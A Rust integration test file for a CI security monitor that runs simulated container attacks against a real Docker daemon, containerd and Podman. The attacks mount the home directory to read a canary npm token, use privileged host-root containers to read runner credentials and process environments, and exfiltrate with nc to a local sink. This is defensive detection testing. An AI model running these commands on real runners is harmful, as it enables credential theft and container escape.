//! Containers, end to end with a real Docker daemon (`integration_tests::docker`): a step's
//! `docker run` that mounts the home and reads the npm token, a privileged container in the
//! host's PID namespace with the host's `/` mounted that reads the Worker's environment, a
//! container sending to a sink on the test's own bridge, and a `container:`-style job whose step
//! runs by `docker exec` with the step's environment. Each attack proves its effect (the token
//! printed, the environment read, the sink got the bytes) before the findings are checked; each
//! finding must name the job, the step and the container. The twins (a project directory
//! mounted for a build, a container reading its own files, a service container serving the
//! job, the runner's own job container) stay quiet.
//!
//! The tests run one at a time: a container is linked to the one job running when it is made,
//! and parallel tests would be several jobs.

use std::{io::Read as _, sync::Mutex};

use integration_tests::{
    by_rule,
    docker::{daemon, BRIDGE_HOST},
    Agent, FakeRunner, MARKER_STEP,
};

static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

const TOKEN: &str = "npm_CONTAINERCANARY0000000000000000000000";

fn agent() -> Agent {
    let d = daemon();
    Agent::start_with(&["--docker-socket", &d.socket.display().to_string()])
}

/// A runner whose home holds a canary npm token and whose workspace a project file.
fn runner() -> FakeRunner {
    let runner = FakeRunner::outside_tmp();
    std::fs::write(
        runner.home.join(".npmrc"),
        format!("//registry.npmjs.org/:_authToken={TOKEN}\n"),
    )
    .unwrap();
    std::fs::write(runner.workspace.join("project.txt"), "project source\n").unwrap();
    runner
}

/// A sink on the bridge's host address (only the test's containers reach it): what it received.
fn bridge_sink() -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
    let listener = std::net::TcpListener::bind((BRIDGE_HOST, 0)).expect("sink on the bridge");
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            let mut got = Vec::new();
            let _ = conn.read_to_end(&mut got);
            let _ = tx.send(got);
        }
    });
    (port, rx)
}

fn names_container(f: &serde_json::Value, name: &str) -> bool {
    f["container"]["name"] == name && f["container"]["id"].as_str().is_some_and(|i| i.len() == 64)
}

/// The runner's own registration secret, a canary, in its directory (returned).
fn runner_credentials(runner: &FakeRunner) -> String {
    std::fs::write(
        runner.dir.path().join(".credentials"),
        "{\"scheme\":\"OAuth\",\"data\":{\"clientId\":\"RUNNER-CRED-CANARY\"}}\n",
    )
    .unwrap();
    runner.dir.path().display().to_string()
}

/// The kernel recorded a client connecting to the runtime's socket at `socket`.
fn assert_runtime_client_seen(agent: &Agent, socket: &std::path::Path) {
    let socket = socket.display().to_string();
    assert!(
        agent
            .events()
            .iter()
            .any(|e| e["kind"] == "runtime_client" && e["socket"] == socket.as_str()),
        "no runtime_client event for {socket}"
    );
}

/// Only the marker step of `runner`'s job raised anything.
fn assert_quiet(agent: &Agent, runner: &FakeRunner, what: &str) {
    let findings = agent.findings_through_marker(runner);
    assert!(
        findings.iter().all(|f| f["step"]["id"] == MARKER_STEP.0),
        "{what} is quiet: {findings:#?}"
    );
}

/// A container no API describes is named by its runtime's name for it, its id that name and its
/// cgroup's id (names repeat across runtimes' namespaces and runs).
fn names_ctr_container(f: &serde_json::Value, name: &str) -> bool {
    f["container"]["name"] == name
        && f["container"]["id"]
            .as_str()
            .and_then(|id| id.strip_prefix(name)?.strip_prefix('@'))
            .is_some_and(|cgroup| cgroup.parse::<u64>().is_ok())
}

#[test]
fn a_steps_containers_are_judged_in_that_step() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let image = d.busybox_image();
    let agent = agent();
    let runner = runner();
    let (port, received) = bridge_sink();
    let tag = &runner.run_id;
    let host = d.host();
    let w = runner.workspace.display().to_string();
    let twin = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name twin-build-{tag} -v '{w}:/src' {image} cat /src/project.txt\n\
         docker run --rm --name twin-own-{tag} {image} cat /data/own.txt\n\
         printf 'FROM {image}\\nRUN cat /data/own.txt > /data/copy && mkdir -p /etc/profile.d && echo export APP=1 > /etc/profile.d/app.sh && echo alias ll=ls >> /root/.bashrc\\n' | docker build -q -t twin-img-{tag} - >/dev/null\n\
         docker run --rm twin-img-{tag} sh -c 'cat /data/copy /etc/profile.d/app.sh'\n"
    );
    let steal = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name steal-{tag} -v \"$HOME:/h\" {image} cat /h/.npmrc\n"
    );
    // Every capability (`--privileged` itself cannot start here: this machine's bounding set
    // lacks CAP_SYS_RESOURCE, which runc then fails to apply), the host's PID namespace and `/`.
    // The runner's own registration secret, read through the host's `/`.
    let runner_dir = runner_credentials(&runner);
    let escape = format!(
        "set -e\nexport DOCKER_HOST={host}\nworker=$PPID\n\
         docker run --rm --name escape-{tag} --cap-add ALL --cap-drop SYS_RESOURCE --pid=host -v /:/host {image} \
         sh -c \"grep -q PATH= /proc/$worker/environ && echo environ-read; cat /host{runner_dir}/.credentials\"\n"
    );
    let egress = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name egress-{tag} {image} sh -c 'echo EXFIL-{tag} | nc {BRIDGE_HOST} {port}'\n"
    );
    // A container of the host's, running before the job (nobody's): a step that enters it
    // with `docker exec` is judged for what it does there.
    let hostbox = format!("hostbox-{tag}");
    d.docker_ok(&["run", "-d", "--name", &hostbox, image, "sleep", "600"]);
    // A command that ends at once: its client is named from the kernel's record of its connect
    // to the runtime (see the test after, which holds the agent still to make sure).
    let peek = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker exec {hostbox} cat /proc/1/environ | tr '\\0' '\\n' | grep '^PATH='\n"
    );
    // Its twin: a process in the container reading its own environment (in the container's
    // namespace `/proc/self` is a small number that is some other process's pid outside).
    let own = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker exec {hostbox} cat /proc/self/environ | tr '\\0' '\\n' | grep '^HOSTNAME='\n"
    );
    let hostbox_init: u64 = d
        .docker_ok(&["inspect", "-f", "{{.State.Pid}}", &hostbox])
        .trim()
        .parse()
        .unwrap();
    let output = runner.run_job(&[
        ("twin", &twin),
        ("steal", &steal),
        ("escape", &escape),
        ("egress", &egress),
        ("peek", &peek),
        ("own", &own),
        MARKER_STEP,
    ]);
    d.docker_ok(&["rm", "-f", &hostbox]);
    // The attacks happened.
    assert!(output.contains("project source"), "{output}");
    assert!(output.contains("the container's own file"), "{output}");
    assert_eq!(
        output.matches("the container's own file").count(),
        2,
        "the image built from it copied the file: {output}"
    );
    assert!(
        output.contains("export APP=1"),
        "the image's start-up file was written (into the image, not the runner): {output}"
    );
    assert!(output.contains(TOKEN), "the token was not read: {output}");
    assert!(output.contains("environ-read"), "{output}");
    assert!(output.contains("RUNNER-CRED-CANARY"), "{output}");
    assert!(
        output.contains("PATH=/usr/local/sbin"),
        "the host container's environment: {output}"
    );
    let got = received
        .recv_timeout(std::time::Duration::from_secs(10))
        .expect("the sink got nothing");
    assert!(
        String::from_utf8_lossy(&got).contains(&format!("EXFIL-{tag}")),
        "{got:?}"
    );

    let mine = agent.findings_through_marker(&runner);
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "twin"),
        "the twin must stay quiet: {mine:#?}"
    );
    let steal_name = format!("steal-{tag}");
    let read = by_rule(&mine, "credential-read");
    assert!(
        read.iter().any(|f| f["step"]["id"] == "steal"
            && names_container(f, &steal_name)
            && f["evidence"]["opened_as"] == "/h/.npmrc"
            && f["evidence"]["path"] == format!("{}/.npmrc", runner.home.display())),
        "the token read in the container, with its host path: {mine:#?}"
    );
    let risks = by_rule(&mine, "container-escape-risk");
    assert!(
        risks
            .iter()
            .any(|f| f["step"]["id"] == "steal" && names_container(f, &steal_name)),
        "a home mounted into a container: {mine:#?}"
    );
    let escape_name = format!("escape-{tag}");
    let escape_risk = risks
        .iter()
        .find(|f| f["step"]["id"] == "escape" && names_container(f, &escape_name))
        .unwrap_or_else(|| panic!("the privileged container: {mine:#?}"));
    let said = escape_risk["evidence"]["risks"].to_string();
    for reason in ["capability ALL", "pid namespace", "the host's / mounted"] {
        assert!(said.contains(reason), "{reason}: {said}");
    }
    assert!(
        mine.iter().any(|f| f["step"]["id"] == "escape"
            && (f["rule"] == "process-environ-read" || f["rule"] == "process-memory-read")
            && names_container(f, &escape_name)),
        "the Worker's environment read from the container: {mine:#?}"
    );
    assert!(
        read.iter().any(|f| f["step"]["id"] == "escape"
            && names_container(f, &escape_name)
            && f["evidence"]["host_path"] == format!("{runner_dir}/.credentials")),
        "the runner's credentials read through the host's root: {mine:#?}"
    );
    assert!(
        by_rule(&mine, "unexpected-egress")
            .iter()
            .any(|f| f["step"]["id"] == "egress"
                && names_container(f, &format!("egress-{tag}"))
                && f["evidence"]["port"] == port),
        "the container's connection to the sink: {mine:#?}"
    );
    assert!(
        mine.iter().any(|f| f["step"]["id"] == "peek"
            && f["rule"] == "process-environ-read"
            && names_container(f, &hostbox)),
        "a docker exec into the host's container is the step's that asked: {mine:#?}"
    );
    // Named as the agent names processes: the container's init by its pid outside.
    assert!(
        mine.iter().any(|f| f["step"]["id"] == "peek"
            && f["rule"] == "process-environ-read"
            && f["evidence"]["target_pid"] == hostbox_init),
        "the container's init named by its host pid {hostbox_init}: {mine:#?}"
    );
    assert!(output.contains("HOSTNAME="), "{output}");
    let own: Vec<_> = mine.iter().filter(|f| f["step"]["id"] == "own").collect();
    assert!(
        own.is_empty(),
        "a process reading its own environment: {own:#?}"
    );
    // The runtime's API was asked, and says so; so does `monitor doctor`.
    let metrics = agent.scrape();
    assert!(
        metrics.contains("monitor_container_runtime_up 1"),
        "{metrics}"
    );
    let doctor = std::process::Command::new(integration_tests::monitor_bin())
        .args(["doctor", "--no-load", "--docker-socket"])
        .arg(&d.socket)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        said.lines()
            .any(|l| l.contains("containers") && l.contains("answers at")),
        "{said}"
    );
}

#[test]
fn a_container_jobs_steps_run_by_docker_exec_are_its_steps() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let image = d.busybox_image();
    let agent = agent();
    let runner = runner();
    let tag = &runner.run_id;
    let host = d.host();
    let w = runner.workspace.display().to_string();
    let job = format!("job-{tag}");
    let service = format!("db-{tag}");
    // The runner's "Initialize containers": the job container (workspace and home mounted, as
    // the runner does) and a service container, made by the Worker before any step.
    // On a network of the job's own, the service reachable by its alias (the runner's
    // `github_network_*`; Docker's embedded resolver answers the name).
    let network = format!("net-{tag}");
    let initialise = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker network create {network} >/dev/null\n\
         docker run -d --name {job} --network {network} -v '{w}:/__w' -v \"$HOME:/github/home\" {image} sleep 600 >/dev/null\n\
         docker run -d --name {service} --network {network} --network-alias db {image} httpd -f -p 8080 -h /data >/dev/null\n"
    );
    // Each step as the runner runs it in a container job: `docker exec` with its environment.
    let exec = |script: &str| {
        format!(
            "set -e\nexport DOCKER_HOST={host}\n\
             docker exec $(env | grep -o '^GITHUB_[A-Z_]*' | sed 's/^/-e /') {job} sh -c '{script}'\n"
        )
    };
    let build =
        exec("cat /__w/project.txt && wget -q -O - http://db:8080/own.txt | sed s/own/served/");
    let steal = exec("cat /github/home/.npmrc");
    let cleanup = format!(
        "export DOCKER_HOST={host}\ndocker rm -f {job} {service} >/dev/null\ndocker network rm {network} >/dev/null\n"
    );
    // With the runner's job hooks, as the README installs it: the job is declared before the
    // runner makes its containers.
    let output = runner.run_job_with_hooks(
        &[
            ("", &initialise),
            ("build", &build),
            ("stealer", &steal),
            ("", &cleanup),
            MARKER_STEP,
        ],
        Some(&agent.control_socket),
    );
    assert!(output.contains("project source"), "{output}");
    assert!(
        output.contains("the container's served file"),
        "the job reached its service by name: {output}"
    );
    assert!(output.contains(TOKEN), "the token was not read: {output}");

    let mine = agent.findings_through_marker(&runner);
    let read = by_rule(&mine, "credential-read");
    assert!(
        read.iter().any(|f| f["step"]["id"] == "stealer"
            && names_container(f, &job)
            && f["evidence"]["opened_as"] == "/github/home/.npmrc"),
        "the token read in the job container, in the step that ran it: {mine:#?}"
    );
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "build"),
        "a build step reading its workspace and its own files is quiet: {mine:#?}"
    );
    // The runner's own job container mounts the home (as the real runner mounts its
    // `_github_home`): its settings are the workflow's, not a step's doing.
    assert!(
        by_rule(&mine, "container-escape-risk").is_empty(),
        "containers the runner made are not a step's escape: {mine:#?}"
    );
    assert!(
        !mine
            .iter()
            .any(|f| names_container(f, &service) || f["rule"] == "outlived-step"),
        "the service container serves the job quietly: {mine:#?}"
    );
    // The report lists the containers, with the step each belongs to and what ran inside.
    let report = agent.wait_for_report(&runner);
    let containers = report["containers"].as_array().cloned().unwrap_or_default();
    let listed = |name: &str| {
        containers
            .iter()
            .find(|c| c["name"] == name)
            .unwrap_or_else(|| panic!("{name} not in the report: {containers:#?}"))
            .clone()
    };
    let job_container = listed(&job);
    assert_eq!(job_container["image"], image);
    assert!(
        job_container["processes"].as_u64().unwrap() >= 3,
        "{job_container}"
    );
    assert_eq!(listed(&service)["image"], image);
    let ran_inside = report["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["step"]["id"] == "stealer")
        .flat_map(|s| s["processes"].as_array().cloned().unwrap_or_default())
        .any(|p| p["container"] == job_container["id"] && p["argv"].to_string().contains(".npmrc"));
    assert!(ran_inside, "{report:#}");
}

#[test]
fn with_two_jobs_at_once_each_container_belongs_to_the_step_that_asked() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let image = d.busybox_image();
    let agent = agent();
    let (quiet, thief) = (runner(), runner());
    let host = d.host();
    // Both jobs run while either makes its containers: timing alone cannot tell them apart.
    let quiet_step = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name quiet-{tag} {image} sh -c 'sleep 4; cat /data/own.txt'\n",
        tag = quiet.run_id
    );
    let thief_step = format!(
        "set -e\nexport DOCKER_HOST={host}\nsleep 1\n\
         docker run --rm --name thief-{tag} -v \"$HOME:/h\" {image} cat /h/.npmrc\n",
        tag = thief.run_id
    );
    let quiet_steps = [("work", quiet_step.as_str()), MARKER_STEP];
    let thief_steps = [("steal", thief_step.as_str()), MARKER_STEP];
    let (quiet_out, thief_out) = std::thread::scope(|s| {
        let q = s.spawn(|| quiet.run_job(&quiet_steps));
        let t = s.spawn(|| thief.run_job(&thief_steps));
        (q.join().unwrap(), t.join().unwrap())
    });
    assert!(
        quiet_out.contains("the container's own file"),
        "{quiet_out}"
    );
    assert!(
        thief_out.contains(TOKEN),
        "the token was not read: {thief_out}"
    );
    let stolen = agent.findings_through_marker(&thief);
    let name = format!("thief-{}", thief.run_id);
    assert!(
        by_rule(&stolen, "credential-read")
            .iter()
            .any(|f| f["step"]["id"] == "steal" && names_container(f, &name)),
        "the read is the thief's job's, by the client that asked: {stolen:#?}"
    );
    assert_quiet(&agent, &quiet, "the other job");
}

/// A `docker exec` whose command ends at once, read by an agent held still until the command
/// and its `docker` client are both gone: nobody is connected to the runtime by the time the
/// agent reads the exec, yet it is the step's that asked (the kernel saw the client connect to
/// the runtime's socket, by the socket's identity, when it asked).
#[test]
fn a_docker_exec_that_ends_before_the_agent_reads_it_is_the_steps_that_asked() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let image = d.busybox_image();
    let agent = agent();
    let runner = runner();
    let tag = runner.run_id.clone();
    let host = d.host();
    let quickbox = format!("quickbox-{tag}");
    d.docker_ok(&["run", "-d", "--name", &quickbox, image, "sleep", "600"]);
    let gates = tempfile::tempdir().unwrap();
    let g = gates.path().display().to_string();
    let peek = format!(
        "set -e\nexport DOCKER_HOST={host}\ntouch {g}/waiting\n\
         while [ ! -e {g}/go ]; do sleep 0.05; done\n\
         docker exec {quickbox} cat /proc/1/environ | tr '\\0' '\\n' | grep '^PATH='\n\
         touch {g}/done\n"
    );
    let job = std::thread::spawn(move || {
        let output = runner.run_job(&[("peek", &peek), MARKER_STEP]);
        (runner, output)
    });
    let wait_for = |name: &str| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while !gates.path().join(name).exists() {
            assert!(std::time::Instant::now() < deadline, "no {name}");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    };
    wait_for("waiting");
    // The agent is held still from before the exec until its client is gone.
    unsafe { libc::kill(agent.pid() as i32, libc::SIGSTOP) };
    std::fs::write(gates.path().join("go"), "").unwrap();
    wait_for("done");
    let clients_left = || {
        std::process::Command::new("pgrep")
            .args(["-f", &format!("docker exec {quickbox}")])
            .status()
            .unwrap()
            .success()
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while clients_left() {
        assert!(
            std::time::Instant::now() < deadline,
            "the docker client stayed"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    unsafe { libc::kill(agent.pid() as i32, libc::SIGCONT) };
    let (runner, output) = job.join().unwrap();
    d.docker_ok(&["rm", "-f", &quickbox]);
    // The container's init's environment was read.
    assert!(output.contains("PATH="), "{output}");
    let mine = agent.findings_through_marker(&runner);
    assert!(
        mine.iter().any(|f| f["step"]["id"] == "peek"
            && f["rule"] == "process-environ-read"
            && names_container(f, &quickbox)),
        "the exec is the step's that asked: {mine:#?}"
    );
    // What said so: the kernel's record of the client connecting to the runtime's socket.
    assert_runtime_client_seen(&agent, &d.socket);
    assert!(agent
        .scrape()
        .contains("monitor_container_runtime_socket_present 1"));
}

/// A step that asks containerd for a container itself (`ctr run`, no Docker API: Docker never
/// hears of it) under a name of its choosing, which no runtime's id layout names: its
/// processes are still a container (a runtime daemon started them into a cgroup of their
/// own), judged in the step that asked, told from another job's `ctr` container running at the
/// same time by the client the kernel saw connect to containerd's socket.
#[test]
fn a_container_made_through_containerd_directly_is_the_steps_that_asked() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let containerd = d.containerd_socket();
    // Made before the agent and the jobs: a program written during a job is a finding of its
    // own, which these are not meant to show.
    let (quiet_root, thief_root, escape_root, hex_root) = (
        integration_tests::docker::busybox_rootfs(),
        integration_tests::docker::busybox_rootfs(),
        integration_tests::docker::busybox_rootfs(),
        integration_tests::docker::busybox_rootfs(),
    );
    let agent = Agent::start_with(&[
        "--docker-socket",
        &d.socket.display().to_string(),
        "--runtime-socket",
        &containerd.display().to_string(),
    ]);
    let (quiet, thief) = (runner(), runner());
    let ctr = format!(
        "ctr -a {} -n monitor-tests-ctr run --rm --env PATH=/bin",
        containerd.display()
    );
    let quiet_name = format!("quiet-{}", quiet.run_id);
    let thief_name = format!("thief-{}", thief.run_id);
    let quiet_step = format!(
        "set -e\n{ctr} --rootfs {} {quiet_name} sh -c 'sleep 4; cat /data/own.txt'\n",
        quiet_root.path().display()
    );
    let thief_step = format!(
        "set -e\nsleep 1\n\
         {ctr} --mount \"type=bind,src=$HOME,dst=/h,options=rbind:ro\" --rootfs {} {thief_name} cat /h/.npmrc\n",
        thief_root.path().display()
    );
    // The host's network namespace and `/` (with its /proc), and a capability that is root on
    // the host: the runner's registration secret read through the host's root, the Worker's
    // environment through the host's /proc.
    let escape_name = format!("escape-{}", thief.run_id);
    let runner_dir = runner_credentials(&thief);
    let escape_step = format!(
        "set -e\nworker=$PPID\n\
         {ctr} --cap-add CAP_SYS_ADMIN --net-host \
         --mount type=bind,src=/,dst=/host,options=rbind:ro --rootfs {} {escape_name} \
         sh -c \"grep -q PATH= /host/proc/$worker/environ && echo environ-read; cat /host{runner_dir}/.credentials\"\n",
        escape_root.path().display()
    );
    // Named as Docker names its containers (64 hex digits), which Docker's API never describes.
    let hex_name = format!("{:0>64x}", thief.run_id.parse::<u128>().unwrap());
    // It leaves what it read in the home it was given, too: `ctr run` once ended without
    // passing on a short-lived container's output (CI, 78ed868), and the file proves the read.
    let hex_step = format!(
        "set -e\n{ctr} --mount \"type=bind,src=$HOME,dst=/h,options=rbind\" --rootfs {} {hex_name} sh -c 'cat /h/.npmrc > /h/hex-read.txt; cat /h/hex-read.txt'\n",
        hex_root.path().display()
    );
    let quiet_steps = [("work", quiet_step.as_str()), MARKER_STEP];
    let thief_steps = [
        ("steal", thief_step.as_str()),
        ("escape", escape_step.as_str()),
        ("hexname", hex_step.as_str()),
        MARKER_STEP,
    ];
    let (quiet_out, thief_out) = std::thread::scope(|s| {
        let q = s.spawn(|| quiet.run_job(&quiet_steps));
        let t = s.spawn(|| thief.run_job(&thief_steps));
        (q.join().unwrap(), t.join().unwrap())
    });
    // The attack happened: the token came out of the container.
    assert!(
        thief_out.contains(TOKEN),
        "the token was not read: {thief_out}"
    );
    assert!(
        quiet_out.contains("the container's own file"),
        "{quiet_out}"
    );
    let stolen = agent.findings_through_marker(&thief);
    assert!(
        by_rule(&stolen, "credential-read").iter().any(|f| f["step"]["id"] == "steal"
            && names_ctr_container(f, &thief_name)
            && f["evidence"]["opened_as"] == "/h/.npmrc"
            && f["evidence"]["path"] == format!("{}/.npmrc", thief.home.display())),
        "the read in containerd's container is the step's that asked, with the host path: {stolen:#?}"
    );
    assert!(thief_out.contains("environ-read"), "{thief_out}");
    assert!(thief_out.contains("RUNNER-CRED-CANARY"), "{thief_out}");
    let in_escape = |f: &&serde_json::Value| {
        f["step"]["id"] == "escape" && names_ctr_container(f, &escape_name)
    };
    let risk = by_rule(&stolen, "container-escape-risk")
        .into_iter()
        .find(|f| in_escape(f))
        .unwrap_or_else(|| {
            panic!("the escape container's settings, seen by the kernel: {stolen:#?}")
        });
    let said = risk["evidence"]["risks"].to_string();
    for reason in [
        "capability SYS_ADMIN",
        "network namespace",
        "the host's / mounted",
    ] {
        assert!(said.contains(reason), "{reason}: {said}");
    }
    assert!(
        by_rule(&stolen, "credential-read")
            .iter()
            .any(|f| in_escape(f)
                && f["evidence"]["host_path"] == format!("{runner_dir}/.credentials")),
        "the runner's credentials read through the host's root: {stolen:#?}"
    );
    assert!(
        stolen.iter().any(|f| in_escape(&f)
            && (f["rule"] == "process-environ-read" || f["rule"] == "process-memory-read")),
        "the Worker's environment read from the container: {stolen:#?}"
    );
    assert!(
        by_rule(&stolen, "container-escape-risk")
            .iter()
            .any(|f| f["step"]["id"] == "steal" && names_ctr_container(f, &thief_name)),
        "a home mounted into a container, seen by the kernel: {stolen:#?}"
    );
    let hex_read = std::fs::read_to_string(thief.home.join("hex-read.txt")).unwrap_or_default();
    assert!(
        hex_read.contains(TOKEN),
        "the container named like Docker's read the token: {hex_read:?}\n{thief_out}"
    );
    let in_hex = |f: &&serde_json::Value| {
        f["step"]["id"] == "hexname" && f["container"]["id"] == hex_name.as_str()
    };
    assert!(
        by_rule(&stolen, "credential-read").iter().any(in_hex),
        "the read in a container named like Docker's: {stolen:#?}"
    );
    assert!(
        by_rule(&stolen, "container-escape-risk")
            .iter()
            .any(|f| in_hex(f)
                && f["evidence"]["risks"]
                    .to_string()
                    .contains("mounted writable at /h")),
        "its settings, from the kernel's view once Docker's API did not describe it: {stolen:#?}"
    );
    assert_quiet(
        &agent,
        &quiet,
        "the other job's container reading its own file",
    );
    // No API says when such a container ends: its last process's exit does.
    let thief_id = by_rule(&stolen, "credential-read")
        .iter()
        .find(|f| f["step"]["id"] == "steal")
        .map(|f| f["container"]["id"].clone())
        .unwrap();
    assert!(
        agent.events().iter().any(|e| e["kind"] == "container"
            && e["change"] == "removed"
            && e["container"]["id"] == thief_id),
        "no end of {thief_id}"
    );
    // What linked it: the kernel's record of `ctr` connecting to containerd's socket.
    assert_runtime_client_seen(&agent, &containerd);
}

/// Podman without its service: `podman run` is the step's own child (conmon and runc below
/// it), no daemon and no API describes the container. Its processes are the step's by lineage,
/// and the container is described from the kernel's view (its OCI bundle, its first program) and
/// judged for its settings; a container reading its own file stays quiet.
#[test]
fn a_podman_container_without_a_service_is_judged_in_its_step() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    assert!(
        std::process::Command::new("podman")
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success()),
        "podman is not installed (`cargo xtask setup` installs it)"
    );
    let (steal_root, escape_root, own_root) = (
        integration_tests::docker::busybox_rootfs(),
        integration_tests::docker::busybox_rootfs(),
        integration_tests::docker::busybox_rootfs(),
    );
    let storage = integration_tests::tempdir_outside_tmp();
    // No Docker socket: nothing to wait for, nobody else's word.
    let agent = Agent::start_with(&["--docker-socket", "none"]);
    let runner = runner();
    let runner_dir = runner_credentials(&runner);
    let s = storage.path().display();
    // Podman raises the open-files and process limits by default; this machine's bounding set
    // lacks CAP_SYS_RESOURCE, so they are given as they are.
    let podman = format!(
        "podman --root {s}/root --runroot {s}/run run --rm --network none \
         --ulimit nofile=1024:1024 --ulimit nproc=1024:1024"
    );
    let steal = format!(
        "set -e\n{podman} -v \"$HOME:/h:ro\" --rootfs {} /bin/cat /h/.npmrc\n",
        steal_root.path().display()
    );
    let escape = format!(
        "set -e\nworker=$PPID\n\
         podman --root {s}/root --runroot {s}/run run --rm --network host \
         --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 --cap-add SYS_ADMIN -v /:/host:ro \
         --rootfs {} /bin/sh -c \"grep -q PATH= /host/proc/$worker/environ && echo environ-read; cat /host{runner_dir}/.credentials\"\n",
        escape_root.path().display()
    );
    let own = format!(
        "set -e\n{podman} --rootfs {} /bin/cat /data/own.txt\n",
        own_root.path().display()
    );
    let output = runner.run_job(&[
        ("own", &own),
        ("steal", &steal),
        ("escape", &escape),
        MARKER_STEP,
    ]);
    assert!(output.contains(TOKEN), "the token was not read: {output}");
    assert!(output.contains("environ-read"), "{output}");
    assert!(output.contains("RUNNER-CRED-CANARY"), "{output}");
    assert!(output.contains("the container's own file"), "{output}");
    let mine = agent.findings_through_marker(&runner);
    let podman_container = |f: &serde_json::Value, step: &str| {
        f["step"]["id"] == step && f["container"]["id"].as_str().is_some_and(is_hex64)
    };
    assert!(
        by_rule(&mine, "credential-read")
            .iter()
            // Its processes are the step's by lineage, and the container's by the mount
            // namespace the runtime made for it: the host's path and the container's.
            .any(|f| podman_container(f, "steal")
                && f["evidence"]["path"] == format!("{}/.npmrc", runner.home.display())
                && f["evidence"]["opened_as"] == "/h/.npmrc"),
        "the token read in podman's container, in its step: {mine:#?}"
    );
    assert!(
        by_rule(&mine, "container-escape-risk")
            .iter()
            .any(|f| podman_container(f, "steal")),
        "a home mounted into podman's container: {mine:#?}"
    );
    let risk = by_rule(&mine, "container-escape-risk")
        .into_iter()
        .find(|f| podman_container(f, "escape"))
        .unwrap_or_else(|| panic!("the escape container's settings: {mine:#?}"));
    let said = risk["evidence"]["risks"].to_string();
    for reason in [
        "capability SYS_ADMIN",
        "network namespace",
        "the host's / mounted",
    ] {
        assert!(said.contains(reason), "{reason}: {said}");
    }
    assert!(
        by_rule(&mine, "credential-read")
            .iter()
            .any(|f| podman_container(f, "escape")
                && f["evidence"]["host_path"] == format!("{runner_dir}/.credentials")),
        "the runner's credentials through the host's root: {mine:#?}"
    );
    let own: Vec<_> = mine.iter().filter(|f| f["step"]["id"] == "own").collect();
    assert!(own.is_empty(), "a container reading its own file: {own:#?}");
}

/// `docker compose` (Compose v1, Debian's `docker-compose`, over the same API): a step's
/// project whose app service mounts the home and reads the npm token is that step's, named by
/// the container Compose made; its database-like service, serving from its own files, is quiet.
#[test]
fn a_steps_compose_project_is_judged_in_that_step() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    assert!(
        std::process::Command::new("docker-compose")
            .arg("version")
            .output()
            .is_ok_and(|o| o.status.success()),
        "docker-compose is not installed (`cargo xtask setup` installs it)"
    );
    let d = daemon();
    let image = d.busybox_image();
    let agent = agent();
    let runner = runner();
    let tag = &runner.run_id;
    let host = d.host();
    let project = format!("cmp{tag}");
    // On the test daemon's own bridge (`network_mode: bridge`): Compose makes no network.
    let compose = format!(
        "version: \"2.4\"\n\
         services:\n\
         \x20 db:\n\
         \x20   image: {image}\n\
         \x20   network_mode: bridge\n\
         \x20   command: httpd -f -p 8080 -h /data\n\
         \x20 app:\n\
         \x20   image: {image}\n\
         \x20   network_mode: bridge\n\
         \x20   depends_on: [db]\n\
         \x20   volumes: [\"${{HOME}}:/h:ro\"]\n\
         \x20   command: cat /h/.npmrc\n"
    );
    std::fs::write(runner.workspace.join("docker-compose.yml"), compose).unwrap();
    let up = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker-compose -p {project} up -d db\n\
         docker-compose -p {project} up --no-color app\n\
         docker-compose -p {project} exec -T db cat /data/own.txt\n\
         docker-compose -p {project} down -t 1\n"
    );
    let output = runner.run_job(&[("compose", &up), MARKER_STEP]);
    assert!(output.contains(TOKEN), "the token was not read: {output}");
    assert!(
        output.contains("the container's own file"),
        "the service's own file: {output}"
    );
    let mine = agent.findings_through_marker(&runner);
    let app = format!("{project}_app_1");
    let db = format!("{project}_db_1");
    assert!(
        by_rule(&mine, "credential-read")
            .iter()
            .any(|f| f["step"]["id"] == "compose"
                && names_container(f, &app)
                && f["evidence"]["opened_as"] == "/h/.npmrc"
                && f["evidence"]["path"] == format!("{}/.npmrc", runner.home.display())),
        "the token read in Compose's app container, in its step: {mine:#?}"
    );
    assert!(
        by_rule(&mine, "container-escape-risk")
            .iter()
            .any(|f| f["step"]["id"] == "compose" && names_container(f, &app)),
        "a home mounted into Compose's app: {mine:#?}"
    );
    assert!(
        !mine.iter().any(|f| names_container(f, &db)),
        "the database-like service is quiet: {mine:#?}"
    );
    assert!(
        mine.iter()
            .filter(|f| f["step"]["id"] == "compose")
            .all(|f| names_container(f, &app)),
        "nothing else in the step: {mine:#?}"
    );
}

